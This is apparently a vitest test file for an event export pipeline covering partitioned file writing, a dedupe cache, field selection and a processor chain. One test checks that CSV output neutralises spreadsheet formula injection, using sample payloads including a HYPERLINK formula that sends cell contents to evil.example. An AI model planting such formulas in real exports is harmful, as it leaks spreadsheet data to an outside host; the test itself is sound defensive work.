import { describe, expect, it } from 'vitest';
import { parsePathTemplate } from '../../processors/core/pipeline/path-template.js';
import { PartitionBatch } from '../../processors/export/partition-batch.js';
import { S3Batch, type FileSettings } from '../../processors/export/outputs/s3-batch.js';
import { shapeSource } from '../../processors/export/shape.js';
import { DedupeCache } from '../../processors/export/processors/dedupe.js';
import { dropFields } from '../../processors/export/processors/drop.js';
import { selectFields } from '../../processors/export/processors/select.js';
import { StepChain } from '../../processors/export/steps.js';
import type { S3OutputConfig } from '../../processors/export/outputs/s3.js';

const columns = [
  { name: 'event_id', type: 'string', nullable: false },
  { name: 'event_type', type: 'string', nullable: false },
  { name: 'amount_minor', type: 'int64', nullable: true },
  { name: 'occurred_at', type: 'timestamp_us', nullable: false },
] as const;

function settings(format: FileSettings['format'] = 'parquet'): FileSettings {
  return {
    path: parsePathTemplate('lake/event_type=${data.event_type}/dt=${time:yyyy-MM-dd}/${topic}+${partition}+${first_offset}.parquet').template,
    format,
    compression: 'zstd',
    timeField: ['occurred_at'],
    timeFormat: 'unix_us',
    metadata: {},
  };
}

const shapes = shapeSource({ columns } as unknown as S3OutputConfig, 'avro_registry', 'test.yaml');
const day1 = Date.UTC(2026, 9, 1, 12) * 1000;
const day2 = Date.UTC(2026, 9, 2, 0, 0, 0) * 1000; // midnight belongs to its own day

function batch(format?: FileSettings['format']): PartitionBatch & { output: S3Batch } {
  return new PartitionBatch('events', 3, new StepChain([]).forPartition(), new S3Batch('events', 3, settings(format), shapes)) as PartitionBatch & { output: S3Batch };
}

function place(b: PartitionBatch, offset: number, value: Record<string, unknown>) {
  return b.output.add({ value, topic: 'events', partition: 3, offset: String(offset), message: { key: null, value: null, headers: {}, offset: String(offset), timestamp: '0' } });
}

function add(b: PartitionBatch, offset: number, record: Record<string, unknown>): void {
  b.consumedMessage(String(offset), 100, 0);
  expect(place(b, offset, record)).toBeUndefined();
}

describe('partition batch', () => {
  it('groups records into files by rendered key, each keyed by the offset of its own first record', async () => {
    const b = batch();
    add(b, 10, { event_id: 'a', event_type: 'deposit_made', amount_minor: 1, occurred_at: day1 });
    add(b, 11, { event_id: 'b', event_type: 'withdrawal_made', amount_minor: 2, occurred_at: day1 });
    add(b, 12, { event_id: 'c', event_type: 'deposit_made', amount_minor: 2n ** 62n, occurred_at: day2 });
    add(b, 13, { event_id: 'd', event_type: 'deposit_made', amount_minor: null, occurred_at: day1 });
    expect(b.records).toBe(4);
    expect(b.nextOffset).toBe(14n);
    expect(b.startOffset).toBe('10');
    const files = b.output.seal();
    expect(files.map((f) => [f.key, f.rows, f.firstOffset, f.lastOffset]).sort()).toEqual([
      ['lake/event_type=deposit_made/dt=2026-10-01/events+3+10.parquet', 2, '10', '13'],
      ['lake/event_type=deposit_made/dt=2026-10-02/events+3+12.parquet', 1, '12', '12'],
      ['lake/event_type=withdrawal_made/dt=2026-10-01/events+3+11.parquet', 1, '11', '11'],
    ]);
    const bytes = await files[0]!.encode();
    expect(Buffer.from(bytes.subarray(0, 4)).toString()).toBe('PAR1');
  });

  it('refuses a row that does not fit its columns and leaves the batch as it was', () => {
    const b = batch();
    add(b, 1, { event_id: 'a', event_type: 'deposit_made', amount_minor: 1, occurred_at: day1 });
    b.consumedMessage('2', 10, 0);
    expect(place(b, 2, { event_id: 'b', event_type: 'deposit_made', amount_minor: 'ten', occurred_at: day1 })).toMatchObject({ reason: 'schema_mismatch' });
    expect(place(b, 2, { event_id: null, event_type: 'x', occurred_at: day1 })).toMatchObject({ reason: 'schema_mismatch', error: expect.stringMatching(/event_id: required column/) });
    expect(place(b, 2, { event_id: 'c', event_type: { nested: true }, occurred_at: day1 })).toMatchObject({ reason: 'path_error' });
    expect(place(b, 2, { event_id: 'c', event_type: 'x', occurred_at: 'yesterday' })).toMatchObject({ reason: 'path_error' });
    expect(b.records).toBe(1);
    expect(b.output.fileCount).toBe(1);
    expect(b.nextOffset).toBe(3n);
  });

  it('commits past a transaction marker that ends the fetched batch', () => {
    const b = batch();
    add(b, 5, { event_id: 'a', event_type: 't', occurred_at: day1 });
    b.consumedUpTo('6');
    expect(b.nextOffset).toBe(7n);
    b.consumedUpTo('4');
    expect(b.nextOffset).toBe(7n);
  });

  it('writes JSON Lines and CSV with exact integers and RFC 3339 microsecond times', async () => {
    for (const format of ['jsonl', 'csv'] as const) {
      const b = batch(format);
      add(b, 1, { event_id: 'a,"b"', event_type: 't', amount_minor: 2n ** 53n + 1n, occurred_at: day1 + 7 });
      add(b, 2, { event_id: 'c', event_type: 't', amount_minor: null, occurred_at: day1 });
      const text = Buffer.from(await b.output.seal()[0]!.encode()).toString('utf8');
      if (format === 'jsonl') {
        expect(text).toBe(
          '{"event_id":"a,\\"b\\"","event_type":"t","amount_minor":9007199254740993,"occurred_at":"2026-10-01T12:00:00.000007Z"}\n' +
            '{"event_id":"c","event_type":"t","amount_minor":null,"occurred_at":"2026-10-01T12:00:00.000000Z"}\n',
        );
      } else {
        expect(text).toBe('event_id,event_type,amount_minor,occurred_at\n"a,""b""",t,9007199254740993,2026-10-01T12:00:00.000007Z\nc,t,,2026-10-01T12:00:00.000000Z\n');
      }
    }
  });
});

describe('CSV export files against formula injection', () => {
  it('neutralises text cells that a spreadsheet would evaluate, as the reports do, and leaves numbers and times alone', async () => {
    const b = batch('csv'); // one file per event_type: the formulas go in event_id
    add(b, 1, { event_id: '=HYPERLINK("http://evil.example/?"&A1,"click")', event_type: 't', amount_minor: -1500n, occurred_at: day1 });
    add(b, 2, { event_id: '@SUM(A1)', event_type: 't', amount_minor: 7n, occurred_at: day1 });
    add(b, 3, { event_id: '+cmd', event_type: 't', amount_minor: null, occurred_at: day1 });
    add(b, 4, { event_id: '-x', event_type: 't', amount_minor: null, occurred_at: day1 });
    add(b, 5, { event_id: '\tlead', event_type: 't', amount_minor: null, occurred_at: day1 });
    add(b, 6, { event_id: 'plain-text', event_type: 't', amount_minor: -2n, occurred_at: day1 });
    const text = Buffer.from(await b.output.seal()[0]!.encode()).toString('utf8');
    expect(text.split('\n')).toEqual([
      'event_id,event_type,amount_minor,occurred_at',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",t,-1500,2026-10-01T12:00:00.000000Z`,
      `"'@SUM(A1)",t,7,2026-10-01T12:00:00.000000Z`,
      `"'+cmd",t,,2026-10-01T12:00:00.000000Z`,
      `"'-x",t,,2026-10-01T12:00:00.000000Z`,
      `"'\tlead",t,,2026-10-01T12:00:00.000000Z`,
      'plain-text,t,-2,2026-10-01T12:00:00.000000Z',
      '',
    ]);
  });
});

describe('dedupe cache', () => {
  it('remembers at least the last half of its capacity and forgets keys beyond it', () => {
    const c = new DedupeCache(4, undefined);
    for (let i = 0; i < 10; i++) expect(c.firstSeen(`k${i}`)).toBe(true);
    expect(c.size).toBeLessThanOrEqual(4);
    expect(c.firstSeen('k9')).toBe(false);
    expect(c.firstSeen('k8')).toBe(false);
    expect(c.firstSeen('k0')).toBe(true); // long gone
  });

  it('forgets a key a window after it was first seen', () => {
    let now = 0;
    const c = new DedupeCache(10, 1000, () => now);
    expect(c.firstSeen('a')).toBe(true);
    now = 999;
    expect(c.firstSeen('a')).toBe(false);
    now = 1000;
    expect(c.firstSeen('a')).toBe(true);
  });
});

describe('select and drop', () => {
  const record = { a: 1, b: { c: 2, d: 3 }, e: 4 };
  it('select keeps the listed paths in list order', () => {
    expect(selectFields(record, ['e', 'b.c', 'missing'])).toEqual({ e: 4, b: { c: 2 } });
  });
  it('drop removes paths without touching the input', () => {
    expect(dropFields(record, ['a', 'b.d', 'x.y'])).toEqual({ b: { c: 2 }, e: 4 });
    expect(record.b.d).toBe(3);
  });
});

describe('processor chain', () => {
  it('maps, filters and dedupes per partition, and dead-letters failures with their reason', async () => {
    const chain = new StepChain([
      { type: 'mapping', label: 'm', config: '{ "id": id, "kind": $substringAfter(type, ".") }' },
      { type: 'filter', label: 'f', config: 'kind != "skip"' },
      { type: 'dedupe', label: 'd', config: { key: 'id', cache_size: 10, window: undefined } },
    ]);
    const p = chain.forPartition();
    expect(await p.run({ id: '1', type: 'x.keep' })).toEqual({ kind: 'keep', value: { id: '1', kind: 'keep' } });
    expect(await p.run({ id: '1', type: 'x.keep' })).toEqual({ kind: 'drop', by: 'd' });
    expect(await p.run({ id: '2', type: 'x.skip' })).toEqual({ kind: 'drop', by: 'f' });
    expect(await p.run({ id: '3' })).toEqual({ kind: 'drop', by: 'f' }); // JSONata: a comparison with nothing is false
    expect(await p.run({ type: 'x.keep' })).toMatchObject({ kind: 'dead', reason: 'dedupe_error', by: 'd' });
    const strict = new StepChain([{ type: 'filter', label: 'f', config: '$substringAfter(type, ".")' }]).forPartition();
    expect(await strict.run({ type: 'x.y' })).toMatchObject({ kind: 'dead', reason: 'filter_error', error: expect.stringContaining('string "y"') });
    const failing = new StepChain([{ type: 'mapping', label: 'm', config: 'id = "bad" ? $error("bad record") : { "id": id }' }]).forPartition();
    expect(await failing.run({ id: 'bad' })).toMatchObject({ kind: 'dead', reason: 'mapping_error', error: expect.stringContaining('bad record') });
    expect(await failing.run({})).toMatchObject({ kind: 'keep', value: {} });
    // A fresh partition state (after a rewind) has forgotten what it saw.
    expect(await chain.forPartition().run({ id: '1', type: 'x.keep' })).toMatchObject({ kind: 'keep' });
  });
});
